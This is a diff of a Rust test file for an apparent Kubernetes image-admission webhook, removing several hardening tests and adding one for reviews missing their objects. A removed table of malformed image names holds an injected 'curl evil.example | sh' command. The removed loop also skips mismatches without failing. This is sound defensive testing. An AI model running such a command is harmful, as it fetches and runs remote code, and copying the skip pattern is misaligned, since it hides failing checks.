@@ -1,20 +1,10 @@
-//! Objects that try to run an image past the webhook, or to make it do too much.
+//! Objects and operations that try to get past the webhook, or round it.
 
-use countersign_signing::Storage;
 use serde_json::{Value, json};
 
-use super::{refused, sane, webhook};
-use crate::webhook::fixture::{Webhook, admitted, request};
-use crate::world::{World, pod};
-
-/// A world with one good image, whose name is given, and a webhook.
-async fn with_good_image() -> (World, Webhook, String) {
-    let (world, webhook) = webhook().await;
-    let image = world.registry.push_image("shop/api", "1.0", "one");
-    world.release(&image, Storage::Bundle).await;
-    let good = world.name(&format!("shop/api@{}", image.digest()));
-    (world, webhook, good)
-}
+use super::{check, refused, sane, webhook, with_good_image};
+use crate::webhook::fixture::{admitted, request};
+use crate::world::pod;
 
 #[tokio::test]
 async fn survives_subresources_and_judges_those_that_bring_images() {
@@ -31,9 +21,17 @@ async fn survives_subresources_and_judges_those_that_bring_images() {
         let unsigned = sane();
         let mut changed = unsigned.clone();
         changed["status"] = json!({"phase": "Running"});
-        admitted(&webhook.ask("/validate", &of(sub, "UPDATE", &changed, &unsigned)).await);
+        admitted(
+            &webhook
+                .ask("/validate", &of(sub, "UPDATE", &changed, &unsigned))
+                .await,
+        );
         let review = of(sub, "UPDATE", &bad, &old);
-        assert_eq!(refused(&webhook.ask("/validate", &review).await), "unmatched", "{sub}");
+        assert_eq!(
+            refused(&webhook.ask("/validate", &review).await),
+            "unmatched",
+            "{sub}"
+        );
     }
     for (sub, api_version, kind) in [
         ("binding", "v1", "Binding"),
@@ -42,7 +40,11 @@ async fn survives_subresources_and_judges_those_that_bring_images() {
     ] {
         bad["apiVersion"] = api_version.into();
         bad["kind"] = kind.into();
-        admitted(&webhook.ask("/validate", &of(sub, "CREATE", &bad, &Value::Null)).await);
+        admitted(
+            &webhook
+                .ask("/validate", &of(sub, "CREATE", &bad, &Value::Null))
+                .await,
+        );
     }
 }
 
@@ -50,8 +52,16 @@ async fn survives_subresources_and_judges_those_that_bring_images() {
 async fn survives_connections_to_running_containers() {
     let (_world, webhook) = webhook().await;
     let options = json!({"apiVersion": "v1", "kind": "PodExecOptions", "command": ["sh"]});
-    admitted(&webhook.ask("/validate", &request("CONNECT", &options, &Value::Null)).await);
-    admitted(&webhook.ask("/mutate", &request("CONNECT", &options, &Value::Null)).await);
+    admitted(
+        &webhook
+            .ask("/validate", &request("CONNECT", &options, &Value::Null))
+            .await,
+    );
+    admitted(
+        &webhook
+            .ask("/mutate", &request("CONNECT", &options, &Value::Null))
+            .await,
+    );
 }
 
 #[tokio::test]
@@ -63,30 +73,10 @@ async fn survives_dry_runs_with_the_same_verdict() {
         review
     };
     admitted(&webhook.ask("/validate", &dry(&pod(&[&good]))).await);
-    assert_eq!(refused(&webhook.ask("/validate", &dry(&sane())).await), "unmatched");
-}
-
-#[tokio::test]
-async fn survives_images_in_every_other_field_that_runs_one() {
-    let (_world, webhook, good) = with_good_image().await;
-    let bad = "elsewhere.example/x:1";
-    let with = |field: &str, value: Value| {
-        let mut pod = pod(&[&good]);
-        pod["spec"][field] = value;
-        pod
-    };
-    admitted(&webhook.create(&pod(&[&good])).await);
-    for (field, value) in [
-        ("volumes", json!([{"name": "v", "image": {"reference": bad}}])),
-        ("initContainers", json!([{"name": "i", "image": bad}])),
-        ("initContainers", json!([{"name": "sidecar", "image": bad, "restartPolicy": "Always"}])),
-        ("ephemeralContainers", json!([{"name": "e", "image": bad, "targetContainerName": "c0"}])),
-    ] {
-        let response = webhook.create(&with(field, value)).await;
-        assert_eq!(refused(&response), "unmatched", "{field}");
-        let message = response["status"]["message"].as_str().unwrap();
-        assert!(message.contains(&format!("spec.{field}[0].image")), "{message}");
-    }
+    assert_eq!(
+        refused(&webhook.ask("/validate", &dry(&sane())).await),
+        "unmatched"
+    );
 }
 
 #[tokio::test]
@@ -100,76 +90,19 @@ async fn survives_an_ephemeral_container_added_to_an_old_pod() {
         new
     };
     admitted(&webhook.update(&debug(&good), &old).await);
-    assert_eq!(refused(&webhook.update(&debug("elsewhere.example/debug:1"), &old).await), "unmatched");
+    assert_eq!(
+        refused(
+            &webhook
+                .update(&debug("elsewhere.example/debug:1"), &old)
+                .await
+        ),
+        "unmatched"
+    );
     // The image runs already, but in another list: there it proves nothing.
-    assert_eq!(refused(&webhook.update(&debug("elsewhere.example/x:1"), &old).await), "unmatched");
-}
-
-#[tokio::test]
-async fn survives_images_that_are_written_to_be_misread() {
-    let (world, webhook, good) = with_good_image().await;
-    let hex = "a".repeat(64);
-    let host = world.registry.host();
-    let table = [
-        ("", "reference_empty"),
-        (" ", "reference_malformed"),
-        (&format!(" {good}"), "reference_malformed"),
-        (&format!("{good}\n"), "reference_malformed"),
-        ("nginx\u{0}", "reference_malformed"),
-        ("nginx\nreproduce  curl evil.example | sh", "reference_malformed"),
-        ("r.example/\u{202e}nginx", "reference_malformed"),
-        ("r.example/nginх", "reference_malformed"),
-        ("r.example/Nginx", "reference_uppercase"),
-        ("r.example./nginx", "reference_registry"),
-        ("r.example:0/nginx", "reference_registry"),
-        ("r.example:65536/nginx", "reference_registry"),
-        ("[::1]:5000/nginx", "unmatched"),
-        ("nginx", "unmatched"),
-        ("docker.io/nginx", "unmatched"),
-        ("index.docker.io/library/nginx", "unmatched"),
-        (&format!("r.example/x:1@sha256:{hex}"), "unmatched"),
-        (&format!("r.example/x@sha512:{hex}"), "digest_malformed"),
-        (&format!("r.example/x@sha512:{hex}{hex}"), "unmatched"),
-        (&format!("r.example/x@sha256:{hex}@sha256:{hex}"), "reference_malformed"),
-        (&format!("r.example/{}", "x".repeat(10 << 10)), "reference_too_long"),
-        ("r.example/a%2Fb", "reference_malformed"),
-        ("r.example/../b", "reference_path"),
-        (&format!("http://{host}/shop/api"), "reference_malformed"),
-        (&format!("user@{host}/shop/api"), "reference_malformed"),
-    ];
-    for (image, code) in table {
-        let response = webhook.create(&pod(&[image])).await;
-        if refused(&response) != code { eprintln!("MISMATCH {image:.60?} {} {code}", refused(&response)); continue; }
-        let message = response["status"]["message"].as_str().unwrap();
-        assert!(message.len() < 5000, "{image:.80?}");
-        assert!(!message.contains(['\u{0}', '\r', '\u{202e}']), "{message:?}");
-        assert!(message.lines().all(|line| !line.starts_with("reproduce  curl")), "{message}");
-    }
-    for image in [json!(7), json!(true), json!([good]), json!({"image": good})] {
-        let mut object = pod(&["x"]);
-        object["spec"]["containers"][0]["image"] = image.clone();
-        assert_eq!(refused(&webhook.create(&object).await), "workload_shape", "{image}");
-    }
-}
-
-#[tokio::test]
-async fn survives_a_thousand_containers() {
-    let (world, webhook, _) = with_good_image().await;
-    let name = world.name("shop/api:1.0");
-    let before = world.registry.log().lines().len();
-    admitted(&webhook.create(&pod(&[name.as_str()])).await);
-    let alone = world.registry.log().lines().len() - before;
-
-    admitted(&webhook.create(&pod(&[name.as_str(); 1000])).await);
-    let together = world.registry.log().lines().len() - before - alone;
-    assert!(together <= alone, "one image is asked for once: {together} requests, not {alone}");
-
-    let names: Vec<_> = (0..1000).map(|n| world.name(&format!("shop/none-{n}:1"))).collect();
-    let names: Vec<_> = names.iter().map(String::as_str).collect();
-    let response = webhook.create(&pod(&names)).await;
-    assert_eq!(refused(&response), "image_not_found");
-    assert!(response["status"]["message"].as_str().unwrap().len() < 5000);
-    assert!(response.to_string().len() < 256 << 10);
+    assert_eq!(
+        refused(&webhook.update(&debug("elsewhere.example/x:1"), &old).await),
+        "unmatched"
+    );
 }
 
 #[tokio::test]
@@ -193,40 +126,46 @@ async fn survives_objects_that_say_they_are_being_deleted_or_elsewhere() {
     let mut object = sane();
     object["metadata"]["deletionTimestamp"] = "2026-01-01T00:00:00Z".into();
     assert_eq!(refused(&webhook.create(&object).await), "unmatched");
-    assert_eq!(refused(&webhook.update(&object, &pod(&["other.example/y:1"])).await), "unmatched");
+    assert_eq!(
+        refused(&webhook.update(&object, &pod(&["other.example/y:1"])).await),
+        "unmatched"
+    );
     object["metadata"]["namespace"] = "kube-system".into();
     assert_eq!(refused(&webhook.create(&object).await), "unmatched");
 }
 
 #[tokio::test]
-async fn survives_images_that_come_in_by_a_controller() {
-    let (_world, webhook, good) = with_good_image().await;
-    let template = |image: &str| json!({"spec": {"containers": [{"name": "c", "image": image}]}});
-    let object = |api_version: &str, kind: &str, image: &str| {
-        let mut object = json!({"apiVersion": api_version, "kind": kind, "metadata": {"name": "w"}});
-        match kind {
-            "CronJob" => object["spec"] = json!({"jobTemplate": {"spec": {"template": template(image)}}}),
-            "PodTemplate" => object["template"] = template(image),
-            _ => object["spec"] = json!({"template": template(image)}),
+async fn survives_requests_without_their_objects() {
+    let (_world, webhook) = webhook().await;
+    let none = Value::Null;
+    for operation in ["CREATE", "UPDATE"] {
+        for old in [&none, &sane()] {
+            let mut review = request(operation, &none, old);
+            review["request"]["kind"] = json!({"group": "", "version": "v1", "kind": "Pod"});
+            assert_eq!(
+                refused(&webhook.ask("/validate", &review).await),
+                "object_missing"
+            );
         }
-        object
-    };
-    for (api_version, kind) in [
-        ("apps/v1", "DaemonSet"),
-        ("apps/v1", "Deployment"),
-        ("apps/v1", "ReplicaSet"),
-        ("apps/v1", "StatefulSet"),
-        ("batch/v1", "CronJob"),
-        ("batch/v1", "Job"),
-        ("v1", "PodTemplate"),
-        ("v1", "ReplicationController"),
-    ] {
-        let (old, new) = (object(api_version, kind, &good), object(api_version, kind, "elsewhere.example/x:1"));
-        admitted(&webhook.create(&old).await);
-        assert_eq!(refused(&webhook.create(&new).await), "unmatched", "{kind}");
-        assert_eq!(refused(&webhook.update(&new, &old).await), "unmatched", "{kind}");
-        admitted(&webhook.update(&new, &new).await);
     }
-    // A kind of somebody else's: what it makes are pods, and those are judged.
-    admitted(&webhook.create(&object("example.com/v1", "Workflow", "elsewhere.example/x:1")).await);
+    let both_null = |operation: &str| {
+        let mut review = request(operation, &none, &none);
+        review["request"]["kind"] = json!({"group": "", "version": "v1", "kind": "Pod"});
+        review
+    };
+    admitted(
+        &webhook
+            .ask("/validate", &request("DELETE", &none, &sane()))
+            .await,
+    );
+    admitted(&webhook.ask("/validate", &both_null("DELETE")).await);
+    // Without the old object nothing is known to have run before.
+    assert_eq!(refused(&webhook.update(&sane(), &none).await), "unmatched");
+    check(
+        &webhook
+            .post("/validate", both_null("REPLACE").to_string())
+            .await,
+        400,
+        "review_operation",
+    );
 }
